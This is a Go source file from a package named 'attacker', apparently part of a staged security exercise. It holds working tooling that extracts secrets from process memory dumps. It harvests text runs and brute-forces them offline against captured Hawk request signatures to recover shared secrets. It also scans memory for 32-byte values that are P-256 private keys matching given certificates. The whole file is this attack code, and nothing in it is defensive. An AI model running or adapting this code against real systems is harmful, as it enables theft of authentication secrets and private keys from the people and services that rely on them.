package attacker

import (
	"bytes"
	"crypto/ecdh"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/x509"
	"encoding/binary"
	"errors"
	"iter"
	"math/bits"
	"net/http"
	"slices"
	"time"

	"keyladder/stages/mechanism/hawk"
)

// Bounds on what is tried. They are far above what a running app holds.
const (
	maxTexts   = 1 << 18 // texts that could hold a secret
	maxText    = 1 << 12 // bytes of one
	maxTrials  = 1 << 20 // of parts of texts against a signature, which take a microsecond or two
	maxScalars = 1 << 18 // numbers that could be private keys, which take ten
)

// Shared secrets are texts of this length, as far as anybody would make them.
const (
	minSecret = 16
	maxSecret = 128
)

// texts are pieces of memory that could hold a secret because of the characters in
// them, each once. It knows no place and no name.
type texts map[string]struct{}

// collect takes the texts out of a piece of memory.
func (t texts) collect(data []byte) {
	for text := range runs(data, minSecret) {
		if len(t) < maxTexts {
			t[string(text[:min(len(text), maxText)])] = struct{}{}
		}
	}
}

// prove finds the secret with which a request was signed: whoever has a signature can
// try as many secrets as they like, and nobody notices. It is empty where none of the
// texts, and nothing in them, is it.
func (t texts) prove(host string, port int, signatures []signature) string {
	var trials []func(string) bool
	for _, s := range signatures {
		if fits := s.trial(host, port); fits != nil {
			trials = append(trials, fits)
		}
	}
	for _, fits := range trials {
		for text := range t {
			if fits(text) {
				return text
			}
		}
	}
	// Nothing says where a text begins and ends in memory: what lies beside a secret may
	// look like it.
	left := maxTrials
	for _, fits := range trials {
		for text := range t {
			for candidate := range within(text) {
				if left--; left < 0 {
					return ""
				}
				if fits(candidate) {
					return candidate
				}
			}
		}
	}
	return ""
}

// within are the parts of a text that could be a secret.
func within(text string) iter.Seq[string] {
	return func(yield func(string) bool) {
		for start := 0; start+minSecret <= len(text); start++ {
			if different(text[start:start+minSecret]) < minSecret/3 {
				continue // no secret begins like that
			}
			for end := start + minSecret; end <= min(len(text), start+maxSecret); end++ {
				if !yield(text[start:end]) {
					return
				}
			}
		}
	}
}

// different is how many different characters a text has.
func different(text string) int {
	var seen [256]bool
	count := 0
	for _, c := range []byte(text) {
		if !seen[c] {
			seen[c] = true
			count++
		}
	}
	return count
}

// trial returns a function that tells whether a secret fits the signature: the server's
// half of Hawk, with one request and any number of secrets. It is nil where the
// signature is none.
func (s signature) trial(host string, port int) func(secret string) bool {
	var candidate string
	server := hawk.Verifier{
		Host: host, Port: port,
		Lookup: func(string) (string, error) { return candidate, nil },
	}
	request := &http.Request{Method: s.method, RequestURI: s.target, Header: http.Header{"Authorization": {s.field}}}
	now := time.Now()
	fits := func(secret string) bool {
		candidate = secret
		// After the code come the body, which nobody kept, and the time.
		_, err := server.Verify(request, nil, now)
		return err == nil || errors.Is(err, hawk.ErrHash) || errors.Is(err, hawk.ErrStale)
	}
	candidate = "no secret"
	if _, err := server.Verify(request, nil, now); !errors.Is(err, hawk.ErrMAC) {
		return nil
	}
	return fits
}

// scalars finds private keys of elliptic curves in memory as the bare numbers that they
// are, 32 bytes in either order, by computing the public key of everything that could
// be one.
type scalars struct {
	wanted map[string]*x509.Certificate // by the uncompressed point of the public key
	tried  map[[scalarSize]byte]struct{}
	found  []*ecdsa.PrivateKey
}

const scalarSize = 32 // bytes, of P-256

// newScalars looks for the keys of the certificates.
func newScalars(certificates []*x509.Certificate) *scalars {
	s := &scalars{wanted: map[string]*x509.Certificate{}, tried: map[[scalarSize]byte]struct{}{}}
	for _, certificate := range certificates {
		if key, ok := certificate.PublicKey.(*ecdsa.PublicKey); ok && key.Curve == elliptic.P256() && !certificate.IsCA {
			if point, err := key.Bytes(); err == nil {
				s.wanted[string(point)] = certificate
			}
		}
	}
	return s
}

// search tries every place of a piece of memory at which a program would put a number:
// addresses that words have.
func (s *scalars) search(data []byte) {
	const word = 8
	for at := 0; at+scalarSize <= len(data) && len(s.wanted) > 0 && len(s.tried) < maxScalars; at += word {
		if !random(data[at : at+scalarSize]) {
			continue
		}
		number := [scalarSize]byte(data[at:])
		s.try(number)
		slices.Reverse(number[:]) // as processors keep large numbers, the low end first
		s.try(number)
	}
}

func (s *scalars) try(number [scalarSize]byte) {
	if _, again := s.tried[number]; again {
		return
	}
	s.tried[number] = struct{}{}
	private, err := ecdh.P256().NewPrivateKey(number[:])
	if err != nil {
		return // zero, or above the order of the curve
	}
	point := string(private.PublicKey().Bytes())
	if s.wanted[point] == nil {
		return
	}
	if key, err := ecdsa.ParseRawPrivateKey(elliptic.P256(), number[:]); err == nil {
		s.found = append(s.found, key)
		delete(s.wanted, point)
	}
}

// random tells whether bytes look random, and not like text, code, pointers or small
// numbers. Nearly all random numbers pass.
func random(number []byte) bool {
	high := 0  // bits that ASCII has not
	small := 0 // words that could be a pointer or a small number; chance makes one in a thousand
	for at := 0; at < len(number); at += 8 {
		word := binary.LittleEndian.Uint64(number[at:])
		if word>>48 == 0 || word<<48 == 0 || word>>48 == 0xffff {
			small++
		}
		high += bits.OnesCount64(word & 0x8080808080808080)
	}
	if small > 1 || high < 4 || high > len(number)-4 {
		return false
	}
	var seen [4]uint64
	for _, b := range number {
		seen[b>>6] |= 1 << (b & 63)
	}
	different := 0
	for _, word := range seen {
		different += bits.OnesCount64(word)
	}
	return different >= 24 && !bytes.Contains(number, []byte{0, 0, 0})
}
